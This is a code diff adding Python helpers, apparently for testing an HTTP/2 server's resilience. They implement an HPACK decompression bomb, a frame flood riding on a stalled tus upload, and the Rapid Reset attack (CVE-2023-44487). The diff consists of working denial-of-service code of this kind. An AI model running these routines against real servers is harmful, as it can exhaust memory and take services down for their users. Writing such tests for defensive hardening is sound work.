@@ -394,3 +394,78 @@ def flood_frames(kind: str, stream_id: int, count: int, first_new_stream: int = 
     else:
         raise ValueError(kind)
     return one * count
+
+
+def bomb_block(encoder: hpack.Encoder, path: str, refs: int = 10_000, entry_bytes: int = 4000) -> bytes:
+    """A ~10 KB header block that decodes to ~39 MiB: one 4 KB field added to the HPACK dynamic table (sent
+    literally only in the connection's first block), then `refs` one-byte references to it (index 62: the newest
+    dynamic entry)."""
+    head = request_block(encoder, "HEAD", path, [("x-bomb", "a" * entry_bytes)])
+    return head + bytes([0x80 | 62]) * refs
+
+
+def hpack_bomb_connection(port: int, cafile: str, path: str, blocks: int) -> tuple[RawH2, int]:
+    """Sends `blocks` bomb blocks, one stream each, waiting for the server's answer to each; returns the client
+    and how many blocks went out before the server closed."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    sent = 0
+    for index in range(blocks):
+        stream_id = 1 + 2 * index
+        frame = hyperframe.frame.HeadersFrame(stream_id, data=bomb_block(encoder, path),
+                                              flags=["END_HEADERS", "END_STREAM"])
+        if not client.send(frame.serialize()):
+            break
+        sent += 1
+        client.wait(lambda: stream_id in client.resets or stream_id in client.statuses or client.goaway is not None,
+                    timeout=5)
+        if client.goaway is not None:
+            break
+    return client, sent
+
+
+def tus_patch_fields(path: str) -> tuple[str, str, list[tuple[str, str]]]:
+    """A tus PATCH of a 1000-byte upload whose body never comes: the stream a flood rides on."""
+    return "PATCH", path, [("upload-offset", "0"), ("content-length", "1000"),
+                           ("content-type", "application/offset+octet-stream")]
+
+
+def flood_connection(port: int, cafile: str, upload: tuple[str, str, list[tuple[str, str]]], kind: str,
+                     seconds: float) -> tuple[RawH2, int]:
+    """Opens an upload stream (`upload`: method, path, fields; its body never comes), then floods frames of `kind`
+    until the server closes or `seconds` pass. Returns the client and the frames sent (written to the socket,
+    not all read by the server)."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    method, path, fields = upload
+    block = request_block(encoder, method, path, fields)
+    client.send(hyperframe.frame.HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize())
+    sent = 0
+    chunk = 2000
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline and not client.closed and not client.send_failed and client.goaway is None:
+        if not client.send(flood_frames(kind, 1, chunk, first_new_stream=3 + 2 * sent)):
+            break
+        sent += chunk
+        client.read(0)
+    client.wait(lambda: client.goaway is not None, timeout=5)
+    return client, sent
+
+
+def rapid_reset_connection(port: int, cafile: str, path: str, streams: int = 400) -> RawH2:
+    """CVE-2023-44487: `streams` HEADERS each followed at once by RST_STREAM CANCEL, in one write; then waits
+    (bounded) for the server's GOAWAY."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    frames = []
+    for index in range(streams):
+        stream_id = 1 + 2 * index
+        frames.append(hyperframe.frame.HeadersFrame(
+            stream_id, data=request_block(encoder, "HEAD", path), flags=["END_HEADERS"]).serialize())
+        frames.append(hyperframe.frame.RstStreamFrame(stream_id, error_code=8).serialize())
+    client.send(b"".join(frames))
+    client.wait(lambda: client.goaway is not None, timeout=5)
+    return client
